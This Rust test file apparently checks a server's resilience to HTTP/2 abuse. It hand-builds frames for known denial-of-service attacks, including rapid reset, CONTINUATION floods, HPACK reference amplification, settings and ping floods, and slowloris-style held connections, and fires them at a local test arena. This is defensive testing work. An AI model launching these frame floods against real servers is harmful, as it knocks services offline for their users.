//! HTTP/2 without TLS, by hand: what its frames let a client ask for at no cost of its own (RFC 9113,
//! section 10.5; CVE-2019-9512 to 9518, CVE-2023-44487, VU#421644).

use futures_util::future::join_all;
use tokio::io::AsyncWriteExt;

use crate::{
    aliased::introspections,
    arena::{Arena, Document, Target, pour::pour, wire},
    harness::http2::{
        self, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, SETTINGS, WINDOW, frame,
        literal, preface, streams,
    },
};

const DATA: u8 = 0;
const PRIORITY: u8 = 2;
const RESET: u8 = 3;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

/// The headers of a request as JSON; method 2 is `GET`, 3 `POST`.
fn head(method: u8, path: &str) -> Vec<u8> {
    let mut head = http2::head(method, "attacked", path);
    // content-type
    head.extend([0x0f, 31 - 15]);
    head.extend(literal("application/json"));
    head
}

/// Requests that are taken back at once.
async fn resets(target: Target) {
    let path = Document::bounded("", introspections(1)).path();
    let head = head(2, &path);
    let all = streams(0..2_000).flat_map(|stream| {
        let request = frame(HEADERS, END_STREAM | END_HEADERS, stream, &head);
        [request, frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat()
    });
    let all = preface(&[]).into_iter().chain(all).collect();
    pour(target, all, Vec::new()).await;
}

/// Requests that the server itself must take back: their bodies are longer than they say.
async fn provoked_resets(target: Target) {
    let mut head = head(3, "/graphql");
    // content-length: 1
    head.extend([0x0f, 28 - 15]);
    head.extend(literal("1"));
    let all = streams(0..2_000).flat_map(|stream| {
        let request = frame(HEADERS, END_HEADERS, stream, &head);
        [request, frame(DATA, END_STREAM, stream, b"more")].concat()
    });
    let all = preface(&[]).into_iter().chain(all).collect();
    pour(target, all, Vec::new()).await;
}

async fn settings(target: Target) {
    let table = [0, 1, 0, 0, 16, 0];
    pour(target, preface(&[]), frame(SETTINGS, 0, 0, &table).repeat(500)).await;
}

async fn pings(target: Target) {
    pour(target, preface(&[]), frame(PING, 0, 0, b"attacked").repeat(500)).await;
}

async fn priorities(target: Target) {
    pour(target, preface(&[]), frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 1]).repeat(500)).await;
}

/// Headers that never end.
async fn continuations(target: Target) {
    let first = [preface(&[]), frame(HEADERS, 0, 1, &head(2, "/healthz"))].concat();
    let mut more = vec![0x00];
    more.extend(literal("x-more"));
    more.extend(literal(&"x".repeat(4_000)));
    pour(target, first, frame(CONTINUATION, 0, 1, &more).repeat(10)).await;
}

async fn empty_continuations(target: Target) {
    let first = [preface(&[]), frame(HEADERS, 0, 1, &head(2, "/healthz"))].concat();
    pour(target, first, frame(CONTINUATION, 0, 1, b"").repeat(500)).await;
}

/// A header of 4 kB that stands in the dynamic table, named by a byte again and again.
async fn references(target: Target) {
    let mut long = vec![0x40];
    long.extend(literal("x-long"));
    long.extend(literal(&"x".repeat(3_900)));
    let requests = streams(0..100).flat_map(|stream| {
        let first = if stream == 1 { long.as_slice() } else { &[] };
        let block = [head(2, "/healthz").as_slice(), first, &[0xbe; 12_000]].concat();
        frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
    });
    let all = preface(&[]).into_iter().chain(requests).collect();
    pour(target, all, Vec::new()).await;
}

async fn empty_data(target: Target) {
    let first = [preface(&[]), frame(HEADERS, END_HEADERS, 1, &head(3, "/graphql"))].concat();
    pour(target, first, frame(DATA, 0, 1, b"").repeat(500)).await;
}

async fn windows(target: Target) {
    let first = [preface(&[]), frame(HEADERS, END_HEADERS, 1, &head(3, "/graphql"))].concat();
    pour(target, first, frame(WINDOW, 0, 0, &1_u32.to_be_bytes()).repeat(500)).await;
}

/// Opens connections that begin like this, and holds them.
async fn hold(target: Target, connections: usize, bytes: Vec<u8>) {
    let opened = (0..connections).map(async |number| {
        target.sent();
        let mut stream = target.connect_from(wire::address(number)).await.ok()?;
        tokio::select! {
            _ = stream.write_all(&bytes) => {}
            () = target.over() => {}
        }
        Some(stream)
    });
    let held = join_all(opened).await;
    target.in_place();
    target.over().await;
    drop(held);
}

/// Bodies that never come, a hundred on each connection.
async fn half_bodies(target: Target) {
    let head = head(3, "/graphql");
    let begun = streams(0..100).flat_map(|stream| {
        let request = frame(HEADERS, END_HEADERS, stream, &head);
        [request, frame(DATA, 0, stream, &[b' '; 1_000])].concat()
    });
    hold(target, 50, preface(&[]).into_iter().chain(begun).collect()).await;
}

/// Answers for which there is no window.
async fn unread(target: Target) {
    let head = head(2, &Document::bounded("", introspections(1)).path());
    let asked =
        streams(0..100).flat_map(|stream| frame(HEADERS, END_STREAM | END_HEADERS, stream, &head));
    hold(target, 20, preface(&[(INITIAL_WINDOW_SIZE, 0)]).into_iter().chain(asked).collect()).await;
}

async fn silent(target: Target) {
    hold(target, 500, preface(&[])).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_http2_lets_a_client_do_harms_nobody() {
    let mut arena = Arena::open("http2").await;
    arena.attack("HTTP/2 rapid reset", resets).await;
    arena.attack("HTTP/2 resets that the server is made to send", provoked_resets).await;
    arena.attack("HTTP/2 settings", settings).await;
    arena.attack("HTTP/2 pings", pings).await;
    arena.attack("HTTP/2 priorities", priorities).await;
    arena.attack("HTTP/2 headers that never end", continuations).await;
    arena.attack("HTTP/2 headers that never end, and are empty", empty_continuations).await;
    arena.attack("HTTP/2 header references", references).await;
    arena.attack("HTTP/2 empty data", empty_data).await;
    arena.attack("HTTP/2 window updates", windows).await;
    arena.attack("HTTP/2 half bodies", half_bodies).await;
    arena.attack("HTTP/2 answers without a window", unread).await;
    arena.attack("HTTP/2 connections that ask nothing", silent).await;
    arena.close().await;
}
